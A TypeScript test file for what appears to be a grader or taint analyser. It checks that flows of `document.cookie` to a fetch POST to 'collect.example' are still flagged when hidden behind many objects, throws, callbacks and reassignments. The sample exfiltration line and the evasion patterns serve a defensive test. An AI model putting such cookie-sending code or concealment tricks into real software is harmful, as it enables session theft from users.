import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * Every bound can be met on purpose, by harmless copies of what is done with the data. `V` is data, `send` sends what it is
 * given, `show` is nobody's.
 */

const SEND = "const send = (body) => fetch('https://collect.example/', { method: 'POST', body }); const get = () => V;";
const many = (count: number, one: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => one(n)).join('\n');

const gradeOf = (program: string, data: string): Promise<string> =>
  graded({ content: `${SEND} ${program}`.replace('V', data) });

/** By name: what is done once with the data, behind so many copies; what is more than the bound. */
const FOLLOWED: Readonly<Record<string, readonly [more: number, program: (count: number) => string]>> = {
  'objects that a function is lent to': [
    40,
    (count) => `function out() { send(this.text); }
      ${many(count, (n) => `const o${n} = { text: '${n}', out }; o${n}.out();`)}
      const z = { text: '', out }; z.text = get(); z.out();`,
  ],
  'objects that a method puts data into': [
    20,
    (count) => `function fill(x) { this.text = x; }
      ${many(count, (n) => `const o${n} = { fill }; o${n}.fill('a');`)}
      const z = { fill }; z.fill(get()); send(z.text);`,
  ],
  'places where what is thrown is caught': [
    40,
    (count) => `function run() { throw get(); } function inner() { run(); }
      ${many(count, (n) => `function d${n}() { try { inner(); } catch (e) { show(e); } }`)}
      try { inner(); } catch (e) { send(e); }`,
  ],
  'functions between what throws and what catches': [
    300,
    (count) => `function f0() { throw get(); }
      ${many(count, (n) => `function f${n + 1}() { f${n}(); }`)} try { f${count}(); } catch (e) { send(e); }`,
  ],
  'uses of data': [
    600,
    (count) => `const all = get(); ${many(count, (n) => `const b${n} = all + 'x'; show(b${n});`)} send(all + 'y');`,
  ],
  'ways into a function': [
    30,
    (count) => `const pass = (o) => o; ${many(count, (n) => `show(pass({ d${n}: get() }));`)}
      const z = pass({ z: get() }); send(z.z);`,
  ],
  'calls of a function': [600, (count) => `${many(count, () => 'show(get());')} send(get());`],
  'functions that one property is given': [
    20,
    (count) => `const o = {}; ${many(count, (n) => `o.f = (x) => show(x, ${n});`)} o.f = send; o.f(get());`,
  ],
  'functions that one global is given': [
    20,
    (count) => `${many(count, (n) => `window.f = (x) => show(x, ${n});`)} window.f = send; f(get());`,
  ],
  'functions that a field is given by a method': [
    20,
    (count) => `const o = { on(f) { this.f = f; }, run() { this.f(get()); } };
      ${many(count, (n) => `o.on((x) => show(x, ${n}));`)} o.on(send); o.run();`,
  ],
};

/** The same of what is not followed: it is said, so that no good grade is given. */
const SAID: typeof FOLLOWED = {
  'objects in a list': [
    40,
    (count) => `const list = [${many(count, (n) => `{ run(x) { show(x, ${n}); } },`)} { run: send }];
      for (const one of list) one.run(get());`,
  ],
  'functions in a list': [
    140,
    (count) => `const list = []; ${many(count, (n) => `list.push((x) => show(x, ${n}));`)} list.push(send);
      for (const one of list) one(get());`,
  ],
  'functions that one variable is given': [
    40,
    (count) => `let f; ${many(count, (n) => `f = (x) => show(x, ${n});`)} f = send; f(get());`,
  ],
};

describe('data is followed beyond a number of', () => {
  it.each(Object.entries(FOLLOWED))('%s', async (_, [more, program]) => {
    for (const count of [2, more]) expect(await gradeOf(program(count), 'document.cookie')).toBe('F');
    expect(await gradeOf(program(more), "'none'")).toMatch(/^A/);
  });
});

describe('where data is let go is said beyond a number of', () => {
  it.each(Object.entries(SAID))('%s', async (_, [more, program]) => {
    expect(await gradeOf(program(2), 'document.cookie')).toBe('F');
    expect(await gradeOf(program(more), 'document.cookie')).toMatch(/^[B-F]/);
    expect(await gradeOf(program(more), "'none'")).toMatch(/^A/);
  });
});
